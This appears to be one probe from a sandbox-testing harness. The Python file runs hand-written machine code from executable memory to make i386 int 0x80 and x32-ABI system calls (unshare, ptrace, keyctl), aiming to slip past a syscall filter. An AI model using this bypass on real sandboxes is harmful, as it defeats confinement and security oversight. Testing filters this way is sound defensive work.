"""Makes system calls by the numbers of another architecture, to get past the filter."""

import ctypes
import mmap
import os
import platform

from attacker import cannot, got, libc, tried


def _interrupt(number, first):
    # mov eax, number; mov ebx, first; xor ecx, ecx; xor edx, edx; int 0x80; ret
    code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + first.to_bytes(4, "little")
    code += b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(place)()


def _attempt(name, call):
    if (pid := os.fork()) == 0:
        os._exit(0 if call() >= 0 else 1)
    _, status = os.waitpid(pid, 0)
    if status == 0:
        got(name)


if platform.machine() != "x86_64":
    cannot("only known for x86_64")
else:
    tried("int 0x80 and x32")
    _attempt("unshare(NEWUSER) as i386", lambda: _interrupt(310, 0x10000000))
    _attempt("ptrace(TRACEME) as i386", lambda: _interrupt(26, 0))
    _attempt("keyctl(GET_KEYRING_ID) as i386", lambda: _interrupt(288, 0))
    _attempt("unshare(NEWUSER) as x32", lambda: libc.syscall(0x40000000 | 272, 0x10000000))
    _attempt("getpid as x32", lambda: libc.syscall(0x40000000 | 39))
